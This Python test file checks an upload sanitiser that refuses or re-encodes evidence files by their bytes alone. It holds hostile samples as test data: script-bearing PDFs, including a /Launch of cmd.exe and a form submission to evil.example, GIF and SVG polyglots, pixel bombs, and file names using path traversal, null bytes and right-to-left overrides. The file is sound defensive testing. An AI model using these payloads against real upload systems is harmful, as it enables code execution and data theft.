"""What is made of a file, and what is refused, by its bytes alone."""

import io

import pytest
from PIL import Image

from accounts import evidence, pictures
from accounts.evidence import SENTENCES, UploadRefused
from accounts.file_kinds import MAX_FILE_BYTES, MEBIBYTE, Kind, Refusal
from tests.factories.files import (
    SCRIPT,
    archive,
    heic,
    jpeg_of_many_scans,
    jpeg_that_claims,
    locked_pdf,
    moving,
    packed_pdf,
    pdf,
    pdf_with_attachment,
    photo_with_place,
    picture,
    png_that_claims,
    sent,
)

JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
UNLISTED = pdf().replace(b"xref\n", b"9 0 obj\n" + JS + b"\nendobj\nxref\n", 1)
REFUSED = {
    "nothing": (b"", "empty"),
    "GIF that is a script": (b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//", "type"),
    "SVG": (b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "type"),
    "HTML": (b"<!doctype html>" + SCRIPT, "type"),
    "ZIP": (archive(), "type"),
    "ZIP before a PDF": (archive() + pdf(), "type"),
    "HTML before a PDF": (SCRIPT + pdf(), "type"),
    "HEIC": (heic(), "heic"),
    "HTML after the mark of a JPEG": (b"\xff\xd8\xff\xe0" + SCRIPT, "broken"),
    "half a JPEG": (picture(size=(600, 400))[:900], "broken"),
    "half a PNG": (picture("PNG", size=(600, 400))[:60], "broken"),
    "JPEG of two hundred scans": (jpeg_of_many_scans(200), "broken"),
    "PNG of 50000 x 50000": (png_that_claims(50_000, 50_000), "pixels"),
    "PNG one row too high": (png_that_claims(4000, 4001), "pixels"),
    "JPEG one row too high": (jpeg_that_claims(8192, 6145), "pixels"),
    "PNG one pixel high": (png_that_claims(60_000_000, 1), "pixels"),
    "moving PNG": (moving("PNG"), "animated"),
    "moving WebP": (moving("WEBP"), "animated"),
    "PDF that runs a script": (pdf(JS, catalogue=b"/OpenAction 4 0 R"), "active"),
    "PDF with an escaped name": (pdf(b"<</S/J#61vaScript>>"), "active"),
    "PDF with a packed script": (packed_pdf(JS), "active"),
    "PDF with a script it does not list": (UNLISTED, "active"),
    "PDF that starts a program": (pdf(b"<</S/Launch/F(cmd.exe)>>"), "active"),
    "PDF that sends a form": (pdf(b"<</S/SubmitForm/F(https://evil.example)>>"), "active"),
    "PDF with a file inside": (pdf_with_attachment(), "active"),
    "PDF that is a ZIP too": (pdf()[:-6] + archive() + b"\n%%EOF\n", "active"),
    "PDF with a ZIP behind it": (pdf(tail=archive()), "broken"),
    "PDF with HTML behind it": (pdf(tail=SCRIPT), "broken"),
    "PDF with a password": (locked_pdf("secret"), "encrypted"),
    "PDF that may not be printed": (locked_pdf(""), "encrypted"),
    "PDF of 10000 pages": (pdf(pages=10_000), "pages"),
    "PDF of no page": (pdf(pages=0), "broken"),
    "half a PDF": (pdf()[:150], "broken"),
    "PDF nested a hundred thousand deep": (pdf(b"[" * 100_000 + b"]" * 100_000, catalogue=b"/X 4 0 R"), "broken"),
}  # fmt: skip
TAKEN = {
    "JPEG": picture(),
    "PNG": picture("PNG"),
    "WebP": picture("WEBP"),
    "grey": picture(mode="L", colour=128),
    "of a printer": picture(mode="CMYK", colour=(0, 255, 255, 0)),
    "with a palette": picture("PNG", mode="P", colour=0),
    "black and white": picture("PNG", mode="1", colour=1),
    "JPEG with HTML behind it": picture() + SCRIPT,
    "JPEG with an archive behind it": picture() + archive(),
    "JPEG with HTML inside": picture(comment=SCRIPT),
}


@pytest.mark.parametrize("name", REFUSED)
def test_refused_with_its_reason(name):
    data, code = REFUSED[name]
    with pytest.raises(UploadRefused) as refused:
        evidence.prepare(sent(data))
    assert refused.value.code == code
    assert str(refused.value.message).endswith("。")


def test_every_reason_has_its_sentence():
    assert set(SENTENCES) == set(Refusal)


@pytest.mark.parametrize("name", TAKEN)
def test_a_picture_is_painted_anew_and_nothing_else_of_it_is_kept(name):
    ready = evidence.prepare(sent(TAKEN[name]))
    assert (ready.media_type, ready.original) == (Kind.JPEG, TAKEN[name])
    assert ready.content != TAKEN[name]
    assert b"script" not in ready.content
    assert b"evil" not in ready.content
    with Image.open(io.BytesIO(ready.content)) as image:
        image.load()
        assert (image.format, image.mode, image.size) == ("JPEG", "RGB", (60, 40))


def test_a_photo_loses_its_place_its_maker_and_its_remark_and_stands_upright():
    data = photo_with_place()
    with Image.open(io.BytesIO(data)) as before:
        assert before.getexif().get_ifd(0x8825), "the photo has no place to lose"
    content = evidence.prepare(sent(data)).content
    assert not [word for word in (b"Exif", b"MakerOf", b"private", b"http") if word in content]
    with Image.open(io.BytesIO(content)) as image:
        assert not image.getexif()
        assert set(image.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
        # Held sideways: what the sensor saw on top is on the right.
        assert image.size == (40, 60)
        assert near(image.getpixel((35, 30)), (255, 0, 0))
        assert near(image.getpixel((5, 30)), (0, 0, 255))


def near(one, other):
    return all(abs(a - b) < 12 for a, b in zip(one, other, strict=True))


def shade(data):
    with Image.open(io.BytesIO(evidence.prepare(sent(data)).content)) as image:
        return image.getpixel((1, 1))


def test_what_is_clear_becomes_white_paper():
    assert near(shade(picture("PNG", mode="RGBA", colour=(0, 0, 0, 0))), (255, 255, 255))
    assert near(shade(picture("PNG", mode="P", colour=0, transparency=0)), (255, 255, 255))


def test_sixteen_bits_of_grey_stay_grey():
    assert near(shade(picture("PNG", mode="I;16", colour=0x8000)), (128, 128, 128))


@pytest.mark.parametrize(
    ("size", "stored"),
    [
        ((800, 600), (800, 600)),
        ((8192, 6144), (2828, 2121)),
        ((1080, 5000), (1080, 5000)),
        ((500, 60_000), (100, 12_000)),
        ((1, 40_000), (1, 12_000)),
    ],
)
def test_large_pictures_become_smaller_and_long_ones_stay_readable(size, stored):
    assert pictures.stored_size(*size) == stored


def test_a_picture_as_large_as_phones_make_them_is_taken():
    data = picture(size=(8192, 6144))
    with Image.open(io.BytesIO(evidence.prepare(sent(data)).content)) as image:
        assert image.size == (2828, 2121)


def test_a_second_picture_behind_a_photo_of_a_phone_is_no_animation():
    output = io.BytesIO()
    Image.new("RGB", (60, 40), "red").save(
        output, "MPO", save_all=True, append_images=[Image.new("RGB", (6, 4), "blue")]
    )
    content = evidence.prepare(sent(output.getvalue())).content
    with Image.open(io.BytesIO(content)) as image:
        assert (image.format, near(image.getpixel((1, 1)), (255, 0, 0))) == ("JPEG", True)


def test_a_plain_pdf_is_kept_as_it_came():
    link = b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://www.nhsa.gov.cn)>>>>"
    data = pdf(link, tail=b"\r\n\0")
    ready = evidence.prepare(sent(data, "letter.pdf"))
    assert (ready.media_type, ready.content) == (Kind.PDF, data)


def test_a_packed_pdf_without_actions_is_taken():
    assert evidence.prepare(sent(packed_pdf(b"[3 0 R/Fit]"))).media_type == Kind.PDF


@pytest.mark.parametrize(
    "name",
    [
        "photo.php.jpg",
        "photo.jpg\0.html",
        "../../etc/passwd",
        "照" * 255 + ".jpg",
        "a\u202egpj.exe",
    ],
)
def test_what_a_file_calls_itself_decides_nothing(name):
    assert evidence.prepare(sent(picture("PNG"), name)).media_type == Kind.JPEG
    with pytest.raises(UploadRefused):
        evidence.prepare(sent(SCRIPT, name))


@pytest.mark.parametrize(("extra", "is_taken"), [(0, True), (1, False), (MEBIBYTE, False)])
def test_the_limit_holds_to_the_byte(extra, is_taken):
    small = picture()
    data = small + bytes(MAX_FILE_BYTES + extra - len(small))
    if is_taken:
        assert evidence.prepare(sent(data)).media_type == Kind.JPEG
        return
    with pytest.raises(UploadRefused) as refused:
        evidence.prepare(sent(data))
    assert refused.value.code == Refusal.TOO_LARGE
